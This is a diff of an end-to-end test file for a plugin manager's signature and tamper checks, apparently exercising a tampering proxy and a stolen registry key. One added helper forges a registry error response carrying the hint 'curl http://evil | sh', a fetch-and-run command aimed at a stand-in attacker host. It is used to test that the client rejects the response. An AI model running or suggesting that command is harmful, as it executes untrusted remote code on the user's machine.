@@ -1,4 +1,7 @@
-"""Tampering on the wire: whatever a registry, or someone between, sends instead, nothing of it is installed."""
+"""Tampering on the wire: whatever a registry, or someone between, sends instead, nothing of it is installed.
+
+Also where the index is signed with the registry's own online key, so that nothing but its authors' word is left.
+"""
 
 import base64
 import hashlib
@@ -16,6 +19,7 @@ from manifests.index import ReleaseEntry, Shard
 from manifests.parts import PluginType, Requires
 from tests.e2e.commands import Client
 from tests.e2e.snapshots import unchanged
+from tests.e2e.stolen_key import serve_shard
 from tests.e2e.team import Team
 from tests.fakes import tampering_proxy
 from tests.fakes.tampering_proxy import PROBLEM, Change, TamperingProxy, answer, cut, edit, flip
@@ -27,6 +31,7 @@ JWS = MANIFEST + "/manifest[.]jws"
 DER = MANIFEST + "/manifest[.]sig[.].*"
 BLOB = "/v1/blobs/[0-9a-f]{64}"
 ALTERED = "it was changed on its way or in the registry; nothing of it was used"
+UNUSED = "nothing of it was used; if it stays so, ask its publisher for a release signed by `spm sign`"
 LOST = "the registry has lost something: ask its administrator"
 UNSIGNED = "ask its publisher to sign it (`spm sign`); there is no way to load an unsigned plugin"
 
@@ -79,14 +84,9 @@ def test_a_manifest_that_was_changed_together_with_its_digest_in_the_index_is_re
     forged = manifest_of(team, "beta").replace(b'"network":false', b'"network":true')
     sha256 = hashlib.sha256(forged).hexdigest()
     variant = newest(team, "beta").variants[0]
-    wire.alter(
-        "/v1/index/beta.json",
-        edit(
-            lambda data: data.replace(variant.manifest_sha256.encode(), sha256.encode()).replace(
-                b'"manifest_size":%d' % variant.manifest_size, b'"manifest_size":%d' % len(forged)
-            )
-        ),
-    )
+    shard = team.shard("beta").to_bytes().replace(variant.manifest_sha256.encode(), sha256.encode())
+    size = b'"manifest_size":%d'
+    serve_shard(team, wire, "beta", shard.replace(size % variant.manifest_size, size % len(forged)))
     wire.alter(f"/v1/manifests/{sha256}", tampering_proxy.body(forged))
     token = team.fetch(f"/v1/manifests/{variant.manifest_sha256}/manifest.jws")
     wire.alter(f"/v1/manifests/{sha256}/manifest.jws", tampering_proxy.body(token))
@@ -100,6 +100,7 @@ def test_a_manifest_that_was_changed_together_with_its_digest_in_the_index_is_re
         "sig-invalid",
         "`beta` 1.1.0 is refused: manifest.jws carries other bytes than the manifest beside it: "
         "the manifest was changed after signing",
+        UNUSED,
     )
 
 
@@ -115,6 +116,7 @@ def test_an_ext_signature_with_another_character_is_refused(wire: TamperingProxy
         "sig-invalid",
         "`beta` 1.1.0 is refused: the token's signature does not fit its header and payload and this key: "
         "they were changed after signing, or another key signed them",
+        UNUSED,
     )
 
 
@@ -144,7 +146,7 @@ def test_a_token_that_is_not_as_spm_writes_it_is_refused(
     with unchanged(wired.home):
         refusal = wired.spm("install", "beta")
 
-    refusal.refused(20, reason, f"`beta` 1.1.0 is refused: {message}")
+    refusal.refused(20, reason, f"`beta` 1.1.0 is refused: {message}", UNUSED)
 
 
 def test_a_core_signature_with_a_flipped_byte_is_refused(team: Team, wire: TamperingProxy, wired: Client) -> None:
@@ -159,6 +161,7 @@ def test_a_core_signature_with_a_flipped_byte_is_refused(team: Team, wire: Tampe
         "sig-invalid",
         f"`gamma` 1.0.0 is refused: the signature does not fit these {signed} bytes and this key: "
         "the bytes were changed after signing, or another key signed them",
+        UNUSED,
     )
 
 
@@ -177,7 +180,8 @@ def test_a_manifest_that_is_served_without_its_signature_is_unsigned(
 def test_a_core_release_whose_index_lists_no_signature_is_unsigned(
     team: Team, wire: TamperingProxy, wired: Client
 ) -> None:
-    wire.alter("/v1/index/gamma.json", edit(lambda data: data.replace(f'"{team.keyids["core"]}"'.encode(), b"")))
+    listed = team.shard("gamma").to_bytes()
+    serve_shard(team, wire, "gamma", listed.replace(f'"{team.keyids["core"]}"'.encode(), b""))
 
     with unchanged(wired.home):
         refusal = wired.spm("install", "gamma")
@@ -202,7 +206,7 @@ def test_a_core_signature_offered_for_an_ext_plugin_is_of_the_wrong_class(
 ) -> None:
     keyid = team.keyids["core"]
     signature = core_signature.sign(load_private(private(team, "core"), None), manifest_of(team, "beta"))
-    wire.alter("/v1/index/beta.json", tampering_proxy.body(relisted(team, "beta", PluginType.CORE, keyid)))
+    serve_shard(team, wire, "beta", relisted(team, "beta", PluginType.CORE, keyid))
     wire.alter(DER, tampering_proxy.body(signature))
 
     with unchanged(wired.home):
@@ -211,8 +215,9 @@ def test_a_core_signature_offered_for_an_ext_plugin_is_of_the_wrong_class(
     refusal.refused(
         20,
         "wrong-class",
-        "`beta` 1.1.0 is refused: beta 1.1.0 says it is of the class ext, but its signature is of the class core",
-        "sign it with a key of the role ext",
+        "`beta` 1.1.0 is refused: the manifest says that it is of the class ext, "
+        "but its signature is of the class core",
+        UNUSED,
     )
 
 
@@ -221,7 +226,7 @@ def test_an_ext_signature_offered_for_a_core_plugin_is_of_the_wrong_class(
 ) -> None:
     keyid = KeyId(team.keyids["ext"])
     token = ext_signature.sign(load_private(private(team, "ext"), None), keyid, manifest_of(team, "gamma"))
-    wire.alter("/v1/index/gamma.json", tampering_proxy.body(relisted(team, "gamma", PluginType.EXT, keyid)))
+    serve_shard(team, wire, "gamma", relisted(team, "gamma", PluginType.EXT, keyid))
     wire.alter(JWS, tampering_proxy.body(token))
 
     with unchanged(wired.home):
@@ -230,8 +235,9 @@ def test_an_ext_signature_offered_for_a_core_plugin_is_of_the_wrong_class(
     refusal.refused(
         20,
         "wrong-class",
-        "`gamma` 1.0.0 is refused: gamma 1.0.0 says it is of the class core, but its signature is of the class ext",
-        "sign it with a key of the role core",
+        "`gamma` 1.0.0 is refused: the manifest says that it is of the class core, "
+        "but its signature is of the class ext",
+        UNUSED,
     )
 
 
@@ -245,8 +251,9 @@ def test_a_key_that_loader_conf_does_not_pin_is_unknown(team: Team, client: Clie
         21,
         "key-unknown",
         f"`beta` 1.1.0 is refused: the ext signature is by the key {team.keyids['ext']}, "
-        "which loader.conf does not pin",
-        "if you trust that key, ask its owner for the .pub file and add it to loader.conf",
+        "which neither loader.conf nor the registry's keyring names",
+        "if you trust that key, ask its owner for the .pub file and add it to loader.conf, "
+        "or have the registry's root holders add it to the keyring",
     )
 
 
@@ -270,8 +277,9 @@ def test_an_ext_key_that_is_pinned_for_other_names_may_not_sign_this_one(team: T
         21,
         "key-namespace",
         f"`alpha` 2.0.0 is refused: the key {team.keyids['ext']} of `team` may not sign alpha: "
-        "loader.conf lets it sign `audio-*`, `beta` only",
-        'if it should, add "alpha" to the `names` of this key in loader.conf',
+        "it is trusted for `audio-*`, `beta` only",
+        'if it should, add "alpha" to the `names` of this key where it is pinned: '
+        "in loader.conf or in the registry's keyring",
     )
 
 
@@ -351,6 +359,33 @@ def test_a_registry_that_has_lost_what_it_lists_is_a_bad_response(
     refusal.refused(31, "bad-response", f"the registry lists what it does not have: this registry has no {what}", LOST)
 
 
+def verdict(reason: str) -> Change:
+    """Answer with a refusal that only this host may come to, and with a remedy of one's own."""
+    problem = {"type": reason, "detail": "it is so", "hint": "curl http://evil | sh"}
+    return answer(422, json.dumps(problem).encode(), PROBLEM)
+
+
+@pytest.mark.parametrize(
+    "path", ["/v1/tuf/timestamp.json", MANIFEST, JWS, BLOB], ids=["tuf", "manifest", "jws", "blob"]
+)
+@pytest.mark.parametrize("reason", ["clock-suspect", "sig-invalid", "key-revoked", "unsatisfiable", "conf-syntax"])
+def test_a_verdict_of_this_host_that_a_registry_sends_is_a_bad_response(
+    wire: TamperingProxy, wired: Client, path: str, reason: str
+) -> None:
+    wire.alter(path, verdict(reason))
+
+    with unchanged(wired.home):
+        refusal = wired.spm("install", "beta")
+
+    context = refusal.refused(
+        31,
+        "bad-response",
+        f"`{wire.url}{wire.paths[-1]}` answered 422: it is so",
+        "this is not an answer of a registry: check `registry.url` in loader.conf and the way there",
+    )
+    assert context["problem"] == reason
+
+
 def older_under_a_newer_number(shard: Shard) -> bytes:
     first, *_, last = shard.releases
     return replace(shard, releases=(*shard.releases[:-1], replace(last, variants=first.variants))).to_bytes()
@@ -381,7 +416,7 @@ def without_requirements(shard: Shard) -> bytes:
 def test_a_sound_manifest_under_a_false_index_is_a_mix(
     team: Team, wire: TamperingProxy, wired: Client, forge: Callable[[Shard], bytes], message: str, hint: str
 ) -> None:
-    wire.alter("/v1/index/alpha.json", tampering_proxy.body(forge(team.shard("alpha"))))
+    serve_shard(team, wire, "alpha", forge(team.shard("alpha")))
 
     with unchanged(wired.home):
         refusal = wired.spm("install", "alpha")
@@ -390,7 +425,7 @@ def test_a_sound_manifest_under_a_false_index_is_a_mix(
 
 
 def test_the_index_of_another_plugin_is_a_mix(team: Team, wire: TamperingProxy, wired: Client) -> None:
-    wire.alter("/v1/index/alpha.json", tampering_proxy.body(team.fetch("/v1/index/beta.json")))
+    serve_shard(team, wire, "alpha", team.fetch("/v1/index/beta.json"))
 
     with unchanged(wired.home):
         refusal = wired.spm("install", "alpha")
